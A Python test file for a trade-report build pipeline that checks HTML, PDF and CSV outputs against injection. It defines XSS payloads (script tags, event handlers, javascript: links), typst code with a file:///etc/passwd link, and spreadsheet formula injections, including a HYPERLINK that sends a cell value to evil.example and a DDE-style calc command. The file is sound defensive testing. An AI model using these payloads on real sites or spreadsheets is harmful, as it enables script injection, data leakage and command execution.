"""Text from the data is text, never markup (issue 11, item 1).

One full build (portable renderer) of a project copy whose raw data carry injection payloads:
script tags and event handlers in a publisher and a title, a `javascript:` markdown link,
`{=html}` and `{=typst}` raw spans, typst `#` code and a `file:` link, and spreadsheet formulas.
The site is opened in headless Chromium: no payload runs (it would set window.__pwned, the
document title or log to the console) and the payload shows as text.  The PDF shows the typst
code as text and links to no `file:` URL.  Published CSVs neutralise formulas; Parquet keeps them.
Plus fast unit checks of the escaping, the URL check at the link writer and the CSV rule.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest

from browser import CHROMIUM_ARGS, chromium_available, serve_directory  # noqa: F401
from xjtrade.textsafe import MD_SPECIAL, csv_cell, md_escape, md_link, url_problem

PUBLISHER_OF = "People's Daily Online"  # the most cited publisher: named in every source note
PUBLISHER = ("<script>window.__pwned=1;document.title='pwned';console.log('PWNED-1')</script>"
             "<img src=x onerror=\"window.__pwned=2;console.log('PWNED-2')\"> Daily")
TITLE = ("Report <svg/onload=window.__pwned=3> [click](javascript:window.__pwned=4) "
         "`<b onmouseover=window.__pwned=5>raw</b>`{=html} "
         "`#text(fill: red)[TYPST-PWNED]`{=typst} #link(\"file:///etc/passwd\")[passwd] "
         "#text(\"TYPST-CODE\") $x^2$ @cite **bold**")
FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
RATE_NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"


def _edit_raw(raw: Path) -> str:
    """Write the payloads into data/raw; return the id of the source with the payload title."""
    path = raw / "sources.csv"
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    h = rows[0]
    for r in rows[1:]:
        if r[h.index("publisher")] == PUBLISHER_OF:
            r[h.index("publisher")] = PUBLISHER
    target = rows[1][0]
    rows[1][h.index("title")] = TITLE
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh, lineterminator="\n").writerows(rows)
    path = raw / "reports.csv"
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    h = rows[0]
    rows[1][h.index("description")] = FORMULA
    rows[2][h.index("description")] = "-2+3 looks like a formula"
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh, lineterminator="\n").writerows(rows)
    path = raw / "exchange_rates.csv"
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    rows[1][rows[0].index("note")] = RATE_NOTE
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh, lineterminator="\n").writerows(rows)
    return target


@pytest.fixture(scope="module")
def built(tmp_path_factory, warm_cache):
    from conftest import copy_project
    from xjtrade.pipeline import build
    from xjtrade.project import Project
    from xjtrade.report.params import load_params
    project = Project(copy_project(tmp_path_factory.mktemp("inject") / "project", warm=warm_cache))
    source_id = _edit_raw(project.raw)
    params = load_params(project.params / "default.yaml")
    report = build(project, params, engine="portable", log=lambda m: None)
    return project, report.report_dir, source_id


# --------------------------------------------------------------------------- browser

PROBE = """() => ({pwned: window.__pwned === undefined ? null : window.__pwned, title: document.title,
  scripts: Array.from(document.scripts).map(s => s.textContent).filter(t => t.includes('__pwned')).length,
  handlers: Array.from(document.querySelectorAll('*')).filter(e => Array.from(e.attributes)
     .some(a => a.name.startsWith('on') || /^\\s*javascript:/i.test(a.value))).length,
  jslinks: Array.from(document.querySelectorAll('a[href]')).filter(a => !/^(https?|file):?/i.test(a.protocol)
     || a.protocol === 'javascript:' || a.protocol === 'file:').map(a => a.href)})"""


@pytest.mark.slow
def test_site_runs_no_payload(built, chromium_available):
    from playwright.sync_api import sync_playwright
    _, out, source_id = built
    site = out / "site"
    pages = sorted(p.relative_to(site).as_posix() for p in site.rglob("*.html"))
    assert "sources.html" in pages and "notebooks/02-growth.html" in pages
    seen: dict[str, dict] = {}
    console: list[str] = []
    dialogs: list[str] = []
    with serve_directory(site) as url, sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=str(chromium_available), args=CHROMIUM_ARGS)
        try:
            page = browser.new_page()
            page.on("console", lambda m: console.append(m.text))
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            for name in pages:
                page.goto(url + name, wait_until="load")
                page.mouse.move(10, 10)
                for el in page.query_selector_all("b, svg, img")[:200]:  # hover payload elements if any
                    try:
                        el.hover(timeout=200)
                    except Exception:  # noqa: BLE001 - invisible elements cannot be hovered
                        pass
                page.wait_for_timeout(100)
                seen[name] = {**page.evaluate(PROBE), "text": page.inner_text("body")}
        finally:
            browser.close()
    for name, s in seen.items():
        assert s["pwned"] is None, (name, s["pwned"])
        assert s["title"] != "pwned", name
        assert s["scripts"] == 0 and s["handlers"] == 0, (name, s)
        assert s["jslinks"] == [], (name, s["jslinks"])
    assert not [m for m in console if "PWNED" in m], console
    assert dialogs == []
    # the payloads are visible as text where the data are shown
    sources = seen["sources.html"]["text"]
    assert "<script>window.__pwned=1;" in sources and "onerror=" in sources
    assert "<svg/onload=window.__pwned=3>" in sources
    assert "[click](javascript:window.__pwned=4)" in sources
    assert "`#text(fill: red)[TYPST-PWNED]`{=typst}" in sources
    assert "{=html}" in sources and '#link("file:///etc/passwd")' in sources
    assert "**bold**" in sources and "$x^2$" in sources
    # chapters whose tables carry source notes naming publishers (the forecast chapter's notes name the
    # evaluation, and its publishers appear only inside the SVG charts): shown as text, never run
    for chapter in ("notebooks/02-growth.html",):
        assert "Source: Xinjiang Trade Monitor" in seen[chapter]["text"]
        assert "<script>window.__pwned=1;" in seen[chapter]["text"], chapter


@pytest.mark.slow
def test_sources_page_html_has_no_markup_from_data(built):
    _, out, source_id = built
    html = (out / "site" / "sources.html").read_text(encoding="utf-8")
    assert "<script>window" not in html and "<svg/onload" not in html and "<b onmouseover" not in html
    assert "&lt;script&gt;window.__pwned=1;" in html
    assert 'href="javascript:' not in html.lower() and 'href="file:' not in html.lower()
    assert f'id="src-{source_id}"' in html


# --------------------------------------------------------------------------- PDF

@pytest.mark.slow
def test_pdf_shows_typst_code_as_text(built):
    from pypdf import PdfReader
    _, out, _ = built
    reader = PdfReader(str(next(out.glob("*.pdf"))))
    text = "".join(page.extract_text() or "" for page in reader.pages)
    flat = re.sub(r"\s+", "", text)
    assert "#text(fill:red)[TYPST-PWNED]" in flat
    assert '#text("TYPST-CODE")' in flat
    assert '#link("file:///etc/passwd")[passwd]' in flat
    assert "<script>window.__pwned=1;" in flat
    uris = []
    for page in reader.pages:
        for annot in page.get("/Annots") or []:
            action = annot.get_object().get("/A")
            if action is not None and "/URI" in action:
                uris.append(str(action["/URI"]))
    assert uris, "the PDF should still link the sources' web pages"
    assert not [u for u in uris if not u.lower().startswith(("http://", "https://"))], uris


# --------------------------------------------------------------------------- CSV

@pytest.mark.slow
def test_published_csv_neutralises_formulas(built):
    project, _, _ = built
    for folder in (project.processed, project.runs / "default" / "data"):
        figs = pd.read_csv(folder / "figures.csv", dtype=str, keep_default_na=False)
        desc = set(figs["description"])
        assert "'" + FORMULA in desc and FORMULA not in desc
        assert "'-2+3 looks like a formula" in desc
        assert not [d for d in desc if d[:1] in ("=", "+", "-", "@", "\t", "\r")]
        # numbers are not text cells: negative growth rates stay plain numbers
        yoy = [v for v in figs["yoy_pct"] if v.startswith("-")]
        assert yoy and all(re.fullmatch(r"-[0-9.]+", v) for v in yoy)
        assert not any(v.startswith("'") for v in figs["yoy_pct"])
        parquet = pd.read_parquet(folder / "figures.parquet")
        assert FORMULA in set(parquet["description"])
        rates = pd.read_csv(folder / "exchange_rates.csv", dtype=str, keep_default_na=False)
        assert rates["note"].iloc[0] == "'" + RATE_NOTE


# --------------------------------------------------------------------------- units (fast)

def test_md_escape_every_special_character():
    for ch in "`*_[]<>#{}|$@\\~^":
        assert ch in MD_SPECIAL
        assert md_escape(f"a{ch}b") == f"a\\{ch}b"
    assert md_escape("line\nnext\r\x00end") == "line next  end"
    assert md_escape("People's Daily 2023") == "People's Daily 2023"


def test_md_escape_round_trip_through_pandoc():
    """Every special character, escaped, comes back from pandoc as the literal text."""
    import pypandoc
    text = "<b>x</b> `c`{=html} [l](javascript:x) *e* _u_ #h {a} |p| $m$ @c ~s~ ^t^ \\ 1. 2) - + > & ! :"
    for fmt in ("html", "plain"):
        result = pypandoc.convert_text(md_escape(text), fmt, format="markdown-raw_html-raw_tex")
        if fmt == "html":
            assert "<b>" not in result and "href" not in result and "<code" not in result
            assert "&lt;b&gt;x&lt;/b&gt;" in result
        else:
            assert " ".join(result.split()) == text


@pytest.mark.parametrize("url", ["http://x/><svg/onload=alert(1)>", "javascript:alert(1)",
                                 "file:///etc/passwd", "http://a.b/\n", "http://a.b/c d"])
def test_link_writer_rechecks_urls(url):
    from xjtrade.report.pages import sources_page
    assert url_problem(url) is not None
    assert md_link("label", url) == "label"
    df = pd.DataFrame([{"source_id": "s1", "title": "T", "publisher": "P", "published": "2020-01-01",
                        "url": url, "language": "en", "date_inferred": "no", "figures": 1}])
    page = sources_page(df, None)
    line = next(x for x in page.splitlines() if "(id s1)" in x)   # the source's entry
    assert "<" + url not in page and "](" not in line
    assert md_escape(url) in line


def test_link_writer_links_good_urls():
    from xjtrade.report.pages import sources_page
    assert md_link("a [b]", "https://example.com/x?y=1") == "[a \\[b\\]](<https://example.com/x?y=1>)"
    df = pd.DataFrame([{"source_id": "s1", "title": "T", "publisher": "P", "published": "2020-01-01",
                        "url": "https://example.com/x", "language": "en", "date_inferred": "no", "figures": 1}])
    assert "<https://example.com/x>" in sources_page(df, None)


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("plain", "plain"), ("", ""), (-3.5, -3.5), (None, None),
])
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected


def test_write_table_only_text_columns(tmp_path):
    from xjtrade.data.processed import _write_table
    df = pd.DataFrame({"note": ["=cmd", "ok", "-x"], "value": [-1.5, 2.0, -3.0], "n": [-1, 2, 3]})
    _write_table(df, tmp_path, "t")
    lines = (tmp_path / "t.csv").read_text().splitlines()
    assert lines == ["note,value,n", "'=cmd,-1.5,-1", "ok,2,2", "'-x,-3,3"]
    assert pd.read_parquet(tmp_path / "t.parquet")["note"].tolist() == ["=cmd", "ok", "-x"]


def test_markdown_table_and_source_note_escape():
    from xjtrade.report import chapters
    df = pd.DataFrame({"partner": ["<img src=x onerror=alert(1)>", "a|b"], "value": [1.0, -2.0]})
    md = chapters.markdown_table(df)
    assert re.search(r"(?<!\\)[<>|=(]", md.replace("|", "")) is None
    assert "\\<img src\\=x onerror\\=alert\\(1\\)\\>" in md and "a\\|b" in md
    assert "-2.00" in md
